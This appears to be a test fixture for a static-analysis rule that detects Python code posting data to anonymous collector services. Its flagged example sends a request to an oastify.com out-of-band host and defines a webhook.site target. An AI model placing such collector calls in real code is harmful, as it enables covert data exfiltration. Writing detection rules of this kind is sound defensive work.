import requests

# ruleid: python-anonymous-collector
TARGET = "https://webhook.site/00000000-0000-0000-0000-000000000000"
# ruleid: python-anonymous-collector
requests.post("https://abc.oastify.com/x", data={"a": 1}, timeout=5)
# ok: python-anonymous-collector
requests.post("https://metrics.example.com/start", data={"a": 1}, timeout=5)
# ok: python-anonymous-collector
NOTE = "see webhook.site"
